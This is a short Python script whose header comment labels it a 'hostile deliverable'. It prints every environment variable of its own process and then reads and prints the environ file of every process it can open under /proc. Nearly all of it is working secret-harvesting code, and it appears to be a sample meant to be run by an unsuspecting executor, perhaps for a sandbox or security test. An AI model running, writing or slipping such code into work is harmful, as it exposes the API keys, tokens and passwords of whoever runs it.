# Hostile deliverable: hunts for the runner's secrets in its environment and in every /proc/*/environ it can read.
import os

found = [f"{k}={v}" for k, v in os.environ.items()]
found.append("--- /proc/*/environ ---")
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                found.append(f.read().decode(errors="replace"))
        except OSError:
            pass
print("\n".join(found))
